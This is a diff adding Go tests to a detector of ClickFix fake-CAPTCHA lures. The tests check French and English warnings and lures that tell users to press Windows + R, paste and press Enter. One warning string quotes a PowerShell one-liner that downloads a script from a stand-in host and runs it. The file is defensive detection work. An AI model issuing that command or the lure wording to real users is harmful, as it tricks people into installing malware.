@@ -109,3 +109,31 @@ func TestShownPath(t *testing.T) {
 		t.Error("a remote command beside a path: not found")
 	}
 }
+
+// A warning quotes the steps beside the attack's name and a "never"; a
+// lure that names fake CAPTCHAs to look protective tells to do them.
+func TestWarningQuotesTheSteps(t *testing.T) {
+	warning := "Alerte du CERT Santé : un faux CAPTCHA vous demande d'appuyer sur Windows + R, puis Ctrl + V et Entrée. Ne le faites jamais : fermez la page et appelez le 4400."
+	if got := Instruction(warning); got != "" {
+		t.Errorf("a warning: %q", got)
+	}
+	en := "Attackers show a fake CAPTCHA asking you to press Windows + R, then Ctrl + V and Enter. Never do this."
+	if got := Instruction(en); got != "" {
+		t.Errorf("a warning: %q", got)
+	}
+	for _, twin := range []string{
+		"Pour vous protéger des faux CAPTCHA, vérifiez votre poste : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
+		"Pour bloquer les robots malveillants, vérifiez que vous n'êtes pas un robot : appuyez sur Windows + R, puis Ctrl + V et Entrée.",
+	} {
+		if Instruction(twin) == "" {
+			t.Errorf("a lure dressed as protection: not found in %q", twin)
+		}
+	}
+}
+
+func TestTypedCommandWarning(t *testing.T) {
+	warning := "ClickFix : les attaquants font taper dans Windows + R une commande comme powershell -c \"iwr https://x.example/a | iex\". Ne le faites jamais."
+	if got := TypedCommand(warning); got != "" {
+		t.Errorf("a warning quoting the command: %q", got)
+	}
+}
